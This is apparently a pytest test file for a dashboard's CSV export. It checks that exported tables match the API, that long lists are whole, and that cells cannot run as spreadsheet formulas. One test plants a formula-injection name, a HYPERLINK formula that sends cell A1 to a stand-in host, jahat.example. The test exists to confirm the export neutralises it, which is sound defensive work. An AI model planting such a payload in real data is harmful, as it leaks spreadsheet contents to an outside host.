"""Each table of each page as CSV: its figures are the API's, all of a paged list is in it, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import parse_qs, quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.pages.csv import RUNS, as_csv, as_text
from api.pages.router import PAGES
from domain.events.entries import decode
from domain.fold.postings import postings_of
from projections.ports import Question
from tests.api.facts import permit
from tests.pages.asking import FORMULA, NAMES, OCTOBER, lied, record, served, told_of
from tests.pages.city import BUSY, FAST, MONTH, SMALL, TWIN
from tests.pages.every import ADDRESSES, tables_of
from tests.pages.reading import FAR, Page
from tests.serving import ROOT, Assembled, event

if TYPE_CHECKING:
    from tests.pages.conftest import Desk

NUMBER: Final = re.compile(r"-\d+([,.]\d+)?")
TABLES: Final = {path: tables for path, page in PAGES.items() if (tables := tables_of(page))}
"""The tables of every page that has some, by its path. The desk's are of an answer, which the fixture of that name gets."""
WITH_TABLES: Final = {PAGES[path].template for path in TABLES}
CALLED: Final = {"open.html", "entries.html"}
"""Tables whose CSV is the page's that calls them."""
APART: Final = {
    "public.html": "a table for each unit, and one file of all of them",
    "counter.html": "what was just pressed, which lies on the device",
}


@pytest.fixture(scope="module")
def paths(desk: Desk) -> dict[str, str]:
    """An address of each page with a table, by its path."""
    return {**{path: ADDRESSES[path] for path in TABLES}, "/auditor": desk.lacking}


def table(city: Assembled, path: str, name: str, more: str = "") -> list[dict[str, str]]:
    answer = city.get(f"{path}{'&' if '?' in path else '?'}{MONTH}{more}&csv={name}&lang=en")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="neraca-')
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("page", "name"), [(path, name) for path, names in TABLES.items() for name in names])
def test_every_table_is_offered_on_its_page_and_answers(
    desk: Desk, paths: dict[str, str], page: str, name: str
) -> None:
    path = paths[page]
    address = f"{path}{'&' if '?' in path else '?'}{MONTH}"
    assert f"{address}&csv={name}&lang=en" in Page(desk.city.get(f"{address}&lang=en").text).links
    assert table(desk.city, path, name)


@pytest.mark.parametrize("language", ["id", "en"])
def test_every_page_with_a_table_offers_as_many(desk: Desk, paths: dict[str, str], language: str) -> None:
    """Each link to one gives one, in the language of the page, and no cell of it runs."""
    for page, path in paths.items():
        template = PAGES[page].template
        address = f"{path}{'&' if '?' in path else '?'}{MONTH}" + ("&lang=en" if language == "en" else "")
        view = Page(desk.city.get(address).text)
        tables = sum(tag == "table" for tag, _ in view.tags)
        offers = {link for link in view.links if "csv" in link}
        assert 0 < (1 if template in APART else tables) <= len(offers), template
        for link in offers:
            assert ("lang=en" in link) == (language == "en")
            cells = [cell for row in sheet(desk.city, link, ";" if language == "id" else ",") for cell in row]
            assert cells
            assert not [cell for cell in cells if cell.startswith(RUNS) and not NUMBER.fullmatch(cell)], link


def sheet(city: Assembled, link: str, delimiter: str = ",") -> list[list[str]]:
    answer = city.get(link)
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8"), link
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_no_template_has_a_table_without_its_csv() -> None:
    """Also where a test's city never shows it: beneath each table, before the next, stands its link."""
    marks = "|".join(["</table>", *(rf"\b{name.removesuffix('.html')}\.table\(" for name in sorted(CALLED))])
    offer = re.compile(r"\bcsv\(|'differences\.csv'")
    templates = {file.name: file.read_text("utf-8") for file in (ROOT / "api" / "templates").glob("*.html")}
    assert templates.keys() >= CALLED | APART.keys() | WITH_TABLES
    tables_of = {name: re.split(marks, text)[1:] for name, text in templates.items() if name not in CALLED}
    assert {name for name, after in tables_of.items() if after and name in APART} == set(APART)
    bare = {name for name, after in tables_of.items() if not all(offer.search(part) for part in after)}
    assert bare <= set(APART)


def test_the_board_as_csv_is_the_ranking_of_the_api(small: Assembled) -> None:
    cards = small.get(f"/v1/rankings/dinas?{MONTH}").json()["items"]
    rows = table(small, "/", "board")
    assert [row["id"].removeprefix("'") for row in rows] == [card["subject"]["id"] for card in cards]
    for row, card in zip(rows, cards, strict=True):
        value = card["iku"]["value"]
        assert row["Score"] == ("" if value is None else f"{value:.2f}")
        assert row["Best rank"] == ("" if card["rank"] is None else str(card["rank"]["best"]))
        speed = card["indicators"][0]
        assert row["Speed of service"] == ("" if speed["capaian"] is None else f"{speed['capaian']:.2f}")
        assert int(row["n applications with a standard"]) == speed["n"]


def test_a_list_that_the_page_shows_by_fifty_is_whole(small: Assembled) -> None:
    staff = small.get(f"/v1/dinas/{TWIN}/asn?{MONTH}&limit=1000").json()["items"]
    assert len(staff) > 50
    assert [row["ASN"] for row in table(small, f"/dinas/{TWIN}", "staff")] == [card["subject"]["id"] for card in staff]
    assert len(table(small, f"/dinas/{FAST}", "files")) == 2
    events = small.get(f"/v1/dinas/{FAST}/events?{MONTH}&limit=1000").json()["items"]
    assert len(events) > 100
    rows = table(small, f"/dinas/{FAST}/events", "events")
    assert [int(row["Position"]) for row in rows] == [item["position"] for item in events]
    assert len(table(small, f"/dinas/{FAST}/events", "events", "&measure=permits_rejected")) == 3


def test_a_list_too_long_for_one_file_says_where_it_goes_on(small: Assembled, monkeypatch: pytest.MonkeyPatch) -> None:
    """From file to file it is whole, each row once."""
    monkeypatch.setattr("api.pages.site.CSV_MOST", 60)
    for path, name, column, whole in (
        (f"/dinas/{FAST}/events", "events", "Position", f"/v1/dinas/{FAST}/events?{MONTH}&limit=1000"),
        (f"/dinas/{TWIN}", "staff", "ASN", f"/v1/dinas/{TWIN}/asn?{MONTH}&limit=1000"),
    ):
        values, more = [], ""
        while True:
            rows = table(small, path, name, more)
            *rows, last = rows
            if not last[column].startswith("Cut at 60 rows; the rest: "):
                values += [row[column] for row in (*rows, last)]
                break
            assert len(rows) == 60
            values += [row[column] for row in rows]
            address = last[column].partition("the rest: ")[2]
            assert address.startswith(f"{path}?")
            more = "&cursor=" + parse_qs(address.partition("?")[2])["cursor"][0]
        items = small.get(whole).json()["items"]
        assert len(values) == len(items) > 60
        assert values == [str(item["position"]) if column == "Position" else item["subject"]["id"] for item in items]


def test_times_are_such_as_a_spreadsheet_reads(small: Assembled) -> None:
    """Not in words: they sort, and can be calculated with, in any language."""
    for at, name, column in ((f"/dinas/{FAST}/events", "events", "Occurred"), (f"/dinas/{FAST}", "files", "Received")):
        values = [row[column] for row in table(small, at, name)]
        assert all(datetime.fromisoformat(value).tzinfo is None for value in values)


def test_what_is_closed_on_the_page_is_closed_as_csv(small: Assembled) -> None:
    for path in (
        f"/asn/{BUSY}?csv=months",
        f"/dinas/{FAST}/files?csv=files",
        f"/dinas/{FAST}/why?csv=events",
        "/auditor?csv=checks",
        "/auditor/journal/400?csv=postings",
    ):
        assert small.get(path, **FAR).status_code == 401, path
    for name in ("staff", "files"):
        answer = small.get(f"/dinas/{FAST}?csv={name}", **FAR)
        assert answer.status_code == 200
        assert len(answer.text.splitlines()) == 1, "a head, and nobody"


def test_an_entry_as_csv_is_what_it_posts(small: Assembled) -> None:
    """A row for each measure, its amount a figure."""
    for position in (400, 1027, 1028):
        line = small.journal.lines_at([position])[position]
        amounts = [
            (*posting.account, amount)
            for posting in postings_of(decode(line))
            for _, amount in posting.amounts
            if amount
        ]
        rows = sheet(small, f"/auditor/journal/{position}?csv=postings&lang=en")
        assert rows[0] == ["Agency", "ASN", "Service", "Month", "Measure", "Added"]
        assert [(*row[:4], int(row[5])) for row in rows[1:]] == amounts


def test_the_desk_as_csv_is_what_it_shows(desk: Desk) -> None:
    """Its indicators then and now, the lines that differ, and the checks before with all of both digests."""
    html = desk.city.get(f"{desk.lacking}&{MONTH}&lang=en").text
    table_rows = Page(html.partition('id="rinci"')[2].partition("</table>")[0]).rows[1:]
    rows = table(desk.city, desk.lacking, "indicators")
    for row, cells in zip(rows, table_rows, strict=True):
        ends = [f"{row[end] or '–'} n {row[f'n {end}']}".removesuffix(" n ") for end in ("Then", "Now")]
        assert [row["Indicator"], *ends] == cells[:3]
    assert {row["position now"] for row in rows} == {str(desk.city.journal.head())}
    lines = [line.decode() for line in served(desk.city) if b'"file"' in line]
    assert [(row["Served"], row["Replayed"]) for row in table(desk.city, desk.lacking, "digest")] == [
        ("", line) for line in lines
    ]
    check = table(desk.city, desk.lacking, "checks")[0]
    assert (check["Result"], check["Compared with"]) == ("✕ different", "Served")
    assert all(len(check[side]) == 64 for side in ("Compared value", "Replayed"))
    assert check["Replayed"] == desk.city.get("/v1/digest").json()["digest"] != check["Compared value"]
    other = next(link for link in Page(html).links if check["Compared value"] in link).partition("#")[0]
    assert re.fullmatch(r"The first 20 of \d\d lines that differ", sheet(desk.city, f"{other}&csv=digest")[-1][0])


def test_the_desks_tables_are_of_the_answer_shown(own_october: tuple[Assembled, dict[str, Any]]) -> None:
    """Entries recorded since do not change them; those of an answer not yet there lead to its page. Names stay text."""
    neraca, _ = own_october
    path = told_of(neraca, "period=2026-10", map(lied, served(neraca)), quote(FORMULA)) + "&period=2026-10"
    links = [f"{path}&csv={name}" for name in ("indicators", "digest")]
    indicators, digest = before = [sheet(neraca, link, ";") for link in links]
    assert {row[0] for row in indicators[1:]} == {f"'{FORMULA}"}
    mine = [row for row in digest[1:] if row[0].startswith(f"'{NAMES[FORMULA]} · ")]
    assert mine
    assert all(int(row[2]) == int(row[3]) + 1 for row in mine)
    record(neraca, permit(FORMULA, 60, **OCTOBER))
    assert [sheet(neraca, link, ";") for link in links] == before
    entry = sheet(neraca, f"/auditor/journal/{neraca.journal.head()}?csv=postings", ";")
    assert {row[0] for row in entry[1:]} == {f"'{FORMULA}"}
    answer = neraca.get("/auditor?period=2026-10&since=3&until=9&csv=digest")
    assert (answer.status_code, answer.headers["location"]) == (303, "/auditor?period=2026-10&since=3&until=9")
    assert neraca.replays.ask(Question("2026-10", "9", "3"), begin=False) is None


def test_a_table_no_page_has_is_refused(small: Assembled) -> None:
    assert small.get("/?csv=staff").status_code == 422
    assert small.get(f"/dinas/{SMALL}?csv=").status_code == 422


def test_indonesian_spreadsheets_get_semicolons_and_decimal_commas(small: Assembled) -> None:
    text = small.get(f"/?{MONTH}&csv=board").content.decode("utf-8-sig")
    value = small.get(f"/v1/dinas/{FAST}?{MONTH}").json()["iku"]["value"]
    assert f";Dinas Cepat;{value:.2f}".replace(".", ",") in text


def test_a_name_that_is_a_formula_is_text_in_a_spreadsheet(neraca: Assembled) -> None:
    formula = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
    neraca.record(event("dinas-registered", "1", {"dinas": "-2+3", "name": formula}))
    row = table(neraca, "/", "board")[0]
    assert row["Agency"] == f"'{formula}"
    assert row["id"] == "'-2+3"


@pytest.mark.speed("test")
@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    """Also where a spreadsheet takes off the blanks before it, or divides cells otherwise; what is no formula stays."""
    for code in ("id", "en"):
        cell = as_text(text, "id" if code == "id" else "en")
        assert [part for part in re.split("[;,\t]", cell) if part.lstrip().startswith(RUNS)] == []
        assert cell.replace("'", "") == text.replace("'", "")
        assert cell == text or any(run in text for run in RUNS)
    rows = list(csv.reader(io.StringIO(as_csv(["x"], [[text]], "en").decode("utf-8-sig"), newline="")))
    assert rows[1:] == [[as_text(text, "en")]]


@pytest.mark.speed("quick")
def test_figures_stay_figures() -> None:
    assert as_text(Decimal("-0.04"), "id") == "-0,04"
    assert as_text(-5, "en") == "-5"
    assert as_text(Decimal("1E+3"), "en") == "1000"
    assert as_text(None, "id") == ""
